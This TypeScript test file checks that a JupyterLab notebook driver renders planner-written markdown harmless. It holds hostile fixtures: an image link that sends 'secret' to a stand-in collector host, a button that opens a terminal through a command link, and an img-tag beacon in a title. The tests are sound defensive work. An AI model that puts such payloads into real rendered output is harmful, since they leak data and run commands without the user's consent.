/**
 * What a planner writes into a markdown cell is inert once it is in the notebook (a real notebook
 * model and its rendered cells): a remote image is a link, a command link is text; code is untouched.
 * (The links as JupyterLab's markdown parser renders them: inertMarkdown.spec.ts.)
 */
import { MarkdownCell } from '@jupyterlab/cells';
import { type ICellProvenance, sourceHash } from '../../engine/ports/driver';
import { CELL_METADATA_KEY } from '../metadata';
import { NotebookDriver } from '../notebookDriver';
import {
  IOpenNotebook,
  openNotebook,
  quietConsole,
  useJupyterServer
} from './utils';

quietConsole();

const services = useJupyterServer();

const provenance: ICellProvenance = {
  stage_id: 'findings',
  step_id: 'report',
  behavior_id: 'behavior_004',
  action_index: 0,
  action: 'add'
};

const HOSTILE =
  'Summary ![x](https://collector.example/p?d=secret)\n\n<button data-commandlinker-command="terminal:create-new">Open</button>';
const INERT =
  'Summary [x](https://collector.example/p?d=secret)\n\n&lt;button data-commandlinker-command="terminal:create-new">Open&lt;/button>';

describe('NotebookDriver: planner markdown is inert', () => {
  let notebook: IOpenNotebook;
  let driver: NotebookDriver;

  beforeEach(async () => {
    notebook = await openNotebook(services(), { kernel: false });
    driver = new NotebookDriver({ panel: notebook.panel });
  }, 60000);

  afterEach(async () => {
    await notebook.dispose();
  });

  const cellById = (id: string) =>
    notebook.panel.model!.sharedModel.cells.find(cell => cell.getId() === id)!;
  const renderedNode = (id: string) => {
    const widget = notebook.panel.content.widgets.find(
      cell => cell.model.id === id
    ) as MarkdownCell;
    expect(widget.rendered).toBe(true);
    return widget.node.querySelector('.jp-MarkdownOutput') as HTMLElement;
  };
  /** Rendering is asynchronous: the cell's output once it holds `text`. */
  const renderedWith = async (id: string, text: string) => {
    const end = Date.now() + 10000;
    let node = renderedNode(id);
    while (!node?.textContent?.includes(text) && Date.now() < end) {
      await new Promise(resolve => setTimeout(resolve, 20));
      node = renderedNode(id);
    }
    return node;
  };

  it('inserts a markdown cell with a remote image as a link and a command link as text', async () => {
    const id = await driver.addCell({
      kind: 'markdown',
      source: HOSTILE,
      role: 'content',
      provenance
    });
    expect(cellById(id).getSource()).toBe(INERT);
    const stamp = (
      cellById(id).getMetadata(CELL_METADATA_KEY) as Record<string, unknown>
    ).source_hash;
    expect(stamp).toBe(sourceHash(INERT));
    const node = await renderedWith(id, 'Open');
    expect(node.querySelector('img')).toBeNull();
    expect(node.querySelector('[data-commandlinker-command]')).toBeNull();
    expect(node.textContent).toContain(
      '<button data-commandlinker-command="terminal:create-new">Open</button>'
    );
  });

  it('makes a rewritten markdown cell inert, and leaves code as it is', async () => {
    const text = await driver.addCell({
      kind: 'markdown',
      source: 'thinking…',
      role: 'thinking',
      provenance
    });
    expect(await driver.updateCell(text, HOSTILE)).toBe(true);
    expect(cellById(text).getSource()).toBe(INERT);

    const code = '# ![x](https://collector.example/p)\nhtml = "<img src=x>"';
    const codeId = await driver.addCell({
      kind: 'code',
      source: code,
      role: 'code',
      provenance
    });
    expect(cellById(codeId).getSource()).toBe(code);
    expect(await driver.updateCell(codeId, `${code}\n`)).toBe(true);
    expect(cellById(codeId).getSource()).toBe(`${code}\n`);
  });

  it("makes the run's title inert", async () => {
    const id = await driver.setTitle(
      'Sales <img src=https://collector.example/t>',
      provenance,
      null
    );
    expect(cellById(id).getSource()).toBe(
      '# Sales [https://collector.example/t](https://collector.example/t)'
    );
  });
});
